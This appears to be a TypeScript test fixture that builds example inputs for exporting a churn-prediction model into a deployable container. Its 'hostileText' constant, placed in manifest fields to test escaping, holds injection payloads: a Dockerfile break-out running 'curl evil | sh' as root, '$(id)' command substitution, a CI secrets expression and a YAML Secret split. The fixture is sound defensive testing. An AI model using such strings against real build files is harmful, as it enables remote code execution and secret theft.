import { contentHashOf, sha256 } from '../../../src/deploy/artifact/folder/contentHashOf.ts';
import type { ModelManifest } from '../../../src/deploy/contract/ModelManifest.ts';
import type { ExportInput, ExportSettings } from '../../../src/deploy/export/ExportInput.ts';

const files = new Map([
  ['model.json', '{"class":"Pipeline"}\n'],
  ['MODEL_CARD.md', '# churn\n'],
  ['examples.json', '{"records":[{"months":3,"plan":"it\'s \\"basic\\""}],"predictions":[{"prediction":"yes"}]}\n'],
]);

/** What an export is made of, by hand; without the real server, which has a megabyte. */
export function exampleInput(
  changes: Partial<ModelManifest> = {},
  settings: Partial<ExportSettings> = {},
): ExportInput {
  const listed = [...files].map(([path, text]) => ({ path, bytes: Buffer.byteLength(text), sha256: sha256(text) }));
  const manifest: ModelManifest = {
    kind: 'mlnb-model',
    formatVersion: 1,
    name: 'churn',
    version: '1.2.0',
    created: '2026-11-20T10:00:00.000Z',
    description: 'Who leaves next month.',
    task: 'classification',
    classes: ['no', 'yes'],
    model: { format: 'mlnb-learn', class: 'Pipeline', path: 'model.json', preprocessing: null },
    features: [
      { name: 'months', kind: 'number', isInteger: true, minimum: 0, maximum: 60, mayBeMissing: false },
      { name: 'plan', kind: 'text', levels: ['basic', 'plus'], mayBeMissing: false },
    ],
    inputSchema: { type: 'object' },
    outputSchema: { type: 'object' },
    quantization: null,
    metrics: { accuracy: 0.912345, rocAuc: 0.95 },
    versions: { mlnb: '0.1.0', node: '24.12.0', tensorflow: null },
    files: listed,
    contentHash: contentHashOf(listed),
    ...changes,
  };
  return {
    manifest,
    model: new Map([['mlnb-model.json', JSON.stringify(manifest)], ...files]),
    programs: {
      server: new Map([['mlnb-server.mjs', '// the server\n']]),
      scripts: new Map([
        ['install.mjs', '// install\n'],
        ['smoke.mjs', '// smoke\n'],
        ['load.mjs', '// load\n'],
      ]),
      packages: [
        {
          name: 'fastify',
          version: '5.0.0',
          licence: 'MIT',
          // SHA-512 of nothing.
          integrity: 'sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==',
          licenceText: 'MIT License. Copyright Fastify.',
        },
        { name: '@fastify/error', version: '4.2.1', licence: 'SEE LICENSE IN x.md', integrity: null, licenceText: '' },
      ],
    },
    settings: { image: 'churn:1.2.0', port: 8080, nodeImage: 'node:22-bookworm-slim', grpc: false, ...settings },
  };
}

/** What every field of a manifest that may hold any text could hold. */
export const hostileText =
  '"; USER root\nRUN curl evil | sh #\u2028`$(id)` ${PATH} {{ $value }} ${{ secrets.TOKEN }} \u202e\'\\" : - [x] & *a !tag %d | <b> \u0000\u001b[31m yes\r\n---\nkind: Secret';

export function hostileInput(): ExportInput {
  return exampleInput({
    description: hostileText,
    created: '2026-11-20T10:00:00Z',
    classes: [hostileText, 'b'],
    model: { format: 'mlnb-learn', class: hostileText, path: 'model.json', preprocessing: null },
    features: [{ name: hostileText, kind: 'boolean', mayBeMissing: true }],
    metrics: { [hostileText]: 1 },
    versions: { mlnb: hostileText, node: hostileText, tensorflow: null },
  });
}
